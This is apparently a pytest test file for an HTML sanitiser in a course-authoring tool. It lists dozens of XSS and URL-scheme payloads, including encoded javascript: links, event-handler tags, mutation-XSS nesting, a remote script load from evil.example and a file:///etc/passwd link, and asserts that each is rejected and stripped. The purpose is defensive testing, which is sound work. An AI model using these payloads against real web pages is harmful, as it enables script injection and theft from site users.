"""Author text cannot run code, load from elsewhere or leave its place on the page: vectors for every way in."""

from __future__ import annotations

import pytest

from learning.courses.format.html_output import clean
from learning.courses.format.library_pages import parse_page
from tests.rules.courses.allow_list import not_allowed
from tests.rules.courses.sources import html_of, parse_lesson

# Each of these must be told to the author as a problem, and leave nothing behind that acts.
REFUSED = [
    "[a](javascript:alert(1))",
    "[a](JaVa&#115;cript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    '[a](javascript:alert(1) "title")',
    "[a]( javascript:alert(1))",
    "[a](javascript://https://www.nhs.uk/%0aalert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://example.org/x)",
    "[a](about:blank)",
    "[a](ftp://example.org/x)",
    "[a](http://example.org/)",
    "[a](//evil.example)",
    r"[a](\\evil.example)",
    "[a](/absolute)",
    "[a](https:evil.example)",
    "[a](https:///evil.example)",
    "[a](../../secrets)",
    "[a](..%2f..%2fsecrets)",
    "[a](%6Aavascript:alert(1))",
    "[a](?x=javascript:alert(1))",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox>",
    "<data:text/html,x>",
    "![a](javascript:alert(1))",
    "![a](https://evil.example/pixel.png)",
    "![a](//evil.example/pixel.png)",
    "![a](data:image/png;base64,AAAA)",
    "![a](../../x.png)",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "| a |\n|---|\n| [a](javascript:alert(1)) |",
    "- [ ] [a](javascript:alert(1))",
    "> [a](javascript:alert(1))",
    "## [a](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    'Text <img src="x" onerror="alert(1)"> more.',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style=background:url(//evil.example)>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<details ontoggle=alert(1) open>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<p id=main class=x onclick=alert(1)>x</p>",
    "Text <!-- hidden --> more.",
]

# Each of these is harmless text to CommonMark; it must stay text.
ONLY_TEXT = [
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    '```"><script>alert(1)</script>\ncode\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r"\<script>alert(1)\</script>",
    "[a](https://example.org/?x=&quot;onmouseover=alert(1))",
    '[a](https://example.org/ "&quot; onmouseover=alert(1) x=&quot;")',
    "[a](https://example.org/'\"><script>alert(1)</script>)",
    "[a](mailto:a@b.org?subject=%3Cscript%3E)",
    "## onclick=alert(1) &quot; id=x",
    '## "><img src=x onerror=alert(1)',
    "<span class=&quot;gap&quot;>",
    "< script>alert(1)</ script>",
    "| a |\n|:-:|\n| style=x |",
    '<!-- "><script>alert(1)</script> -->',
    "1000000. a list",
    "[a]{onclick=alert(1)} ![b]{style=x}",
]


@pytest.mark.parametrize("markup", REFUSED)
def test_hostile_markup_is_a_problem_and_leaves_nothing_that_acts(markup: str) -> None:
    parsed = parse_lesson(markup + "\n")

    assert parsed.problems != ()
    assert not_allowed(html_of(markup + "\n")) == []


@pytest.mark.parametrize("markup", ONLY_TEXT)
def test_what_is_text_to_commonmark_stays_text(markup: str) -> None:
    assert not_allowed(html_of(markup + "\n")) == []


@pytest.mark.parametrize("markup", REFUSED + ONLY_TEXT)
def test_pages_outside_courses_are_cleaned_the_same_way(markup: str) -> None:
    for text in (f"# Page\n\n{markup}\n", markup):
        page = parse_page("pages/help.md", text.encode("utf-8", "replace")).page
        assert not_allowed(page.html) == []


@pytest.mark.parametrize("markup", REFUSED)
def test_hostile_markup_is_a_problem_in_pages_outside_courses(markup: str) -> None:
    assert parse_page("pages/help.md", f"# Page\n\n{markup}\n".encode()).problems != ()


@pytest.mark.parametrize("markup", REFUSED + ONLY_TEXT)
@pytest.mark.parametrize("place", ["title", "prompt", "option", "feedback", "hint", "gap", "cell"])
def test_every_part_of_a_question_is_cleaned(markup: str, place: str) -> None:
    line = " ".join(markup.split("\n\n", maxsplit=1)[0].split("\n")) if place != "prompt" else markup
    parts = dict.fromkeys(("title", "prompt", "option", "feedback", "hint", "gap", "cell"), "x") | {place: line}
    body = (
        f"## Question: {parts['title']}\n{parts['prompt']}\n\nChoose one.\n\n- [x] {parts['option']}\n"
        f"  > {parts['feedback']}\n- [ ] no\n\n> Hint: {parts['hint']}\n\n"
        f"## Question: Two\nFill the gaps.\n\n[[a]] {parts['gap']}\n\n"
        f"## Question: Three\nMatch the pairs.\n\n| a | b |\n|---|---|\n| {parts['cell']} | x |\n| y | z |\n"
    )
    course = parse_lesson(body).course
    assert course is not None

    for html in _all_html(course):
        assert not_allowed(html) == []


def _all_html(thing: object) -> list[str]:
    """The HTML in any part of a document; the pieces of a gap text count as one stretch."""
    if hasattr(thing, "pieces"):
        return ["…".join(thing.pieces)]
    if isinstance(thing, tuple):
        return [html for item in thing for html in _all_html(item)]
    if hasattr(thing, "html"):
        return [thing.html]
    slots = getattr(type(thing), "__slots__", ())
    return [html for name in slots for html in _all_html(getattr(thing, name))]


def test_the_cleaner_alone_stops_what_the_renderer_would_have_to_let_through() -> None:
    hostile = (
        '<script>x</script><a href="javascript:x" onclick="x" id="main">a</a><h2 id="at-x" class="y">b</h2>'
        '<span class="gap evil" style="x">c</span><svg><a href="x">d</a></svg><p id="x">e</p><div role="main">f</div>'
    )

    assert clean(hostile) == '<a>a</a><h2 id="at-x">b</h2><span class="gap">c</span><p>e</p><div>f</div>'


def test_headings_cannot_take_the_ids_of_the_page_round_them() -> None:
    assert html_of("## Main\n\n## Main\n") == '<h2 id="at-main">Main</h2>\n<h2 id="at-main-1">Main</h2>'


def test_tables_can_scroll_and_name_their_columns() -> None:
    html = html_of("| A | B |\n|--:|---|\n| 1 | 2 |\n")

    assert html.startswith('<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table>')
    assert '<th scope="col" class="align-right">A</th>' in html
    assert "style" not in html


def test_task_lists_in_plain_text_say_their_state_in_words() -> None:
    html = html_of("- [ ] to do\n- [x] done\n")

    assert '<span class="tick" role="img" aria-label="not ticked">☐</span> to do' in html
    assert '<span class="tick" role="img" aria-label="ticked">☑</span> done' in html
